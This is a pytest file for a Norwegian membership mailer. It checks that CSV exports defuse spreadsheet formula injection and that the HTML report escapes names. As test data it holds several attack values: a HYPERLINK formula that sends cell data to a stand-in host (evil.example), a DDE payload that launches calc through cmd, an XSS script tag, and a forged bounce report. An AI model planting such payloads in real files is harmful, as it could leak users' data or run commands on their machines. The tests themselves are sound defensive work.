"""Formula injection (OWASP "CSV Injection") in every file mailer writes for a spreadsheet.

Text from people reaches the exports: a guest's name and answers typed on the public event
page, a leader's consultation answer, names and chapters from the member export, an address
and a diagnostic in a (forged) bounce report. Each is planted through the real entry point and
read back twice: with the csv module as Norwegian Excel reads the file (`;`), and as a
spreadsheet reads it when told to split at `,` as well (LibreOffice's import dialog, an English
Excel), so a `,` inside a cell must not start a new one that begins with `=`. A cell from people
that starts with `=`, `+`, `-`, `@`, a tab, a CR or a NUL gets a leading `'`; a phone number
like `+47 912 34 567` too (OWASP: it is text, and Excel would read it as a formula otherwise).
Numbers mailer computes are written bare, a negative one too, and stay numbers.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

from bounce_helpers import first_newsletter_sent, import_bytes, returned
from conftest import base_env, mailer, small_project
from consultation_project import ID, form_link, make_project, send_consultation
from event_project import EVENT, event_block, hidden, links, run_due, wait_for
from event_project import make_project as make_event_project
from test_attendance_import import AFTER, HELD
from test_attendance_import import MEMBERS as ATTENDANCE_MEMBERS
from test_attendance_import import series as weekly_meeting
from webapp import SECRET, start_web

from mailer.exports import write_csv

RUNS = ("=", "+", "-", "@", "\t", "\r", "\0")
LINK = '=HYPERLINK("http://evil.example/?"&A2,"Klikk")'
DDE = "-2+3+cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def text_of(path: Path) -> str:
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "a BOM, so Excel reads æøå"
    return data.decode("utf-8-sig")


def excel_cells(path: Path) -> list[list[str]]:
    """The file as Norwegian Excel opens it: `;` between cells."""
    return list(csv.reader(text_of(path).splitlines(keepends=True), delimiter=";"))


def split_at_any(text: str, separators: str = ",;") -> list[list[str]]:
    """The file as a spreadsheet told to split at each of `separators` reads it: a cell that
    opens with a quote runs to its closing quote; anywhere else a separator ends the cell."""
    rows: list[list[str]] = []
    row: list[str] = []
    cell: list[str] = []
    quoted, i = False, 0
    while i < len(text):
        ch = text[i]
        if quoted and ch == '"' and text[i + 1 : i + 2] == '"':
            cell.append('"')
            i += 1
        elif quoted and ch == '"':
            quoted = False
        elif quoted:
            cell.append(ch)
        elif ch == '"' and not cell:
            quoted = True
        elif ch in separators or ch == "\n":
            row.append("".join(cell).removesuffix("\r"))
            cell = []
            if ch == "\n":
                rows.append(row)
                row = []
        else:
            cell.append(ch)
        i += 1
    return rows


def assert_nothing_runs(path: Path) -> None:
    """No cell starts a formula; a bare number (`-3`) is a number, not a formula."""
    for reading in (excel_cells(path), split_at_any(text_of(path))):
        for row in reading:
            for cell in row:
                if not NUMBER.fullmatch(cell):
                    assert not cell.startswith(RUNS), f"{cell!r} would run in {row}"


def test_numbers_mailer_computes_stay_numbers_and_text_from_people_does_not_run(tmp_path):
    out = tmp_path / "ut.csv"
    write_csv(out, ["n"], [[-3, 2.5, 0, "-3", "+47 912 34 567", "\0=1+1", None, "Ola,=1+1"]])
    assert text_of(out).splitlines()[1] == '-3;2.5;0;"\'-3";"\'+47 912 34 567";"\'\0=1+1";"";"Ola,=1+1"'
    assert_nothing_runs(out)


def test_event_export_a_guest_s_name_and_answers_from_the_public_page(tmp_path, smtp):
    env = base_env(MAILER_SECRET=SECRET, MAILER_WEB_REQUESTS_PER_MINUTE="100000", **smtp.env())
    project = make_event_project(tmp_path / "fylke", event_block(open_to="public", capacity=1))
    run_due(project, env)
    sent = len(smtp.received)
    guests = {
        "gry@example.net": (LINK, DDE),
        "ola@example.net": ("Ola Nordmann", "Nøtter,@SUM(A1:A9)"),
        "tlf@example.net": ("Per Telefon", "+47 912 34 567"),
    }
    server = start_web(project, env)
    try:
        page = server.local(f"https://x/p/{EVENT}")
        for address, (name, other) in guests.items():
            with server.client() as client:
                form = {**hidden(client.get(page).text), "name": name, "email": address}
                form.update({"q.fodselsdato": "03.04.1985", "q.hensyn": other})
                assert client.post(page, data=form).status_code == 200
        confirm = links(wait_for(smtp, sent + 3)[sent:], "/p/")
        for address in guests:  # in this order: Gry gets the place, Ola and Per wait as 1 and 2
            with server.client() as client:
                link = server.local(confirm[address])
                form = {**hidden(client.get(link).text), "action": "confirm"}
                assert client.post(link, data=form).status_code == 200
    finally:
        server.stop()
    out = tmp_path / "stortinget.csv"
    result = mailer(project, "event", "export", EVENT, "--out", str(out), env=env)
    assert result.code == 0, result.err
    assert_nothing_runs(out)
    rows = {r[3]: r for r in excel_cells(out)[1:]}
    assert rows["gry@example.net"][2] == "'" + LINK and rows["gry@example.net"][-1] == "'" + DDE
    assert rows["ola@example.net"][-1] == "Nøtter,@SUM(A1:A9)"
    assert rows["tlf@example.net"][-1] == "'+47 912 34 567"
    assert re.search(r'^"venteliste";1;"Ola Nordmann";', text_of(out), re.M), "the place in line a number"
    assert re.search(r'^"venteliste";2;"Per Telefon";', text_of(out), re.M)


def test_consultation_export_a_leader_s_free_text_answers(tmp_path, smtp):
    env = base_env(MAILER_SECRET=SECRET, **smtp.env())
    project = make_project(tmp_path / "fylke")
    send_consultation(project, env)
    answers = {"ase@example.org": LINK, "kari@example.org": "Skoler,-kutt i bussruter"}
    server = start_web(project, env)
    try:
        for address, text in answers.items():
            [mail] = [r for r in smtp.received if r.rcpt_tos == [address]]
            with server.client() as client:
                link = server.local(form_link(mail))
                form = {**hidden(client.get(link).text), "q.saker": text, "q.fylkessak": "Veier"}
                assert client.post(link, data=form).status_code == 200
    finally:
        server.stop()
    out = tmp_path / "svar.csv"
    result = mailer(project, "consultation", "export", ID, "--out", str(out), env=env)
    assert result.code == 0, result.err
    assert_nothing_runs(out)
    by_chapter = {r[0]: r for r in excel_cells(out)[1:]}
    assert by_chapter["Ås Senterparti"][4] == "'" + LINK
    assert by_chapter["Bærum Senterparti"][4] == "Skoler,-kutt i bussruter"


REPORT_MEMBERS = f"""\
1,"@SUM(A1:A9)",Leder,ase@example.org,Ås,"{LINK.replace('"', '""')}",lokallagsleder,2020-01-01,nb
2,Per,"Hansen,=1+1",per@example.org,Asker,Asker Senterparti,lokallagsleder,2020-01-01,nb
3,Kari,<script>alert(1)</script>,kari@example.org,Asker,Asker Senterparti,medlem,2020-01-01,nb
"""


def test_report_csv_names_and_chapters_from_the_member_export(tmp_path):
    root = small_project(tmp_path / "fylke", REPORT_MEMBERS)
    out = tmp_path / "lokallag.csv"
    result = mailer(root, "report", "chapters", "--csv", str(out))
    assert result.code == 0, result.err
    assert_nothing_runs(out)
    flat = [c for r in excel_cells(out) for c in r]
    assert "'" + LINK in flat and "'@SUM(A1:A9) Leder" in flat and "Per Hansen,=1+1" in flat
    assert '"Hele fylket";"";3;0;' in text_of(out), "the counts are numbers"


def test_report_html_escapes_names_from_the_member_export(tmp_path):
    root = small_project(tmp_path / "fylke", REPORT_MEMBERS)
    page = tmp_path / "rapport.html"
    result = mailer(root, "report", "chapters", "--html", str(page))
    assert result.code == 0, result.err
    html = page.read_text("utf-8")
    assert "<script>alert" not in html and "Hansen,=1+1" in html
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A2,&quot;Klikk&quot;)" in html


def test_bounces_csv_an_address_and_a_diagnostic_from_a_forged_report(tmp_path, smtp):
    root, env = first_newsletter_sent(tmp_path, smtp)
    forged = (
        returned("postfix-user-unknown.eml", None)
        .replace(b"ase@example.org", b"-1+1@evil.example")
        .replace(b"<20261203170211", b"<forged")
    )
    forged = re.sub(
        rb"Diagnostic-Code: smtp; 550[^\n]*\n[^\n]*\n", b"Diagnostic-Code: smtp; 550 unknown,=1+1\n", forged
    )
    assert "1 unverified" in import_bytes(root, env, forged, "forged.eml").out
    out = tmp_path / "bounces.csv"
    assert mailer(root, "bounces", "--csv", str(out), env=env).code == 0
    assert_nothing_runs(out)
    [header, row] = excel_cells(out)
    cell = dict(zip(header, row, strict=True))
    assert (cell["email"], cell["reason"]) == ("'-1+1@evil.example", "550 unknown,=1+1")
    assert re.search(r';1;"no";', text_of(out)), "the count is a number"


def test_attendance_csv_names_in_a_meeting_report_never_reach_it_and_counts_stay_numbers(tmp_path):
    """Names from a Teams report or a secretary's list are matched and counted, not exported."""
    root = small_project(tmp_path / "fylke", ATTENDANCE_MEMBERS, weekly_meeting(HELD))
    report = tmp_path / "fremmote.csv"
    report.write_text(f'Navn;E-post\n"{LINK.replace(chr(34), chr(34) * 2)}";\nÅse Ødegård;\n', "utf-8")
    occurrence = f"morgenmote@{HELD.isoformat()}"
    result = mailer(root, "attendance", "import", occurrence, str(report), "--now", AFTER)
    assert result.code == 0, result.err
    outs = [tmp_path / "oppmote.csv", tmp_path / "moter.csv"]
    assert mailer(root, "attendance", "--csv", str(outs[0]), "--now", AFTER).code == 0
    assert mailer(root, "report", "meetings", "--csv", str(outs[1]), "--now", AFTER).code == 0
    for out in outs:
        assert "HYPERLINK" not in text_of(out)
        assert_nothing_runs(out)
    assert f'"Morgenmøte";"{HELD.isoformat()}";0;0;0;0;1;1;1;3;"nei";' in text_of(outs[0])
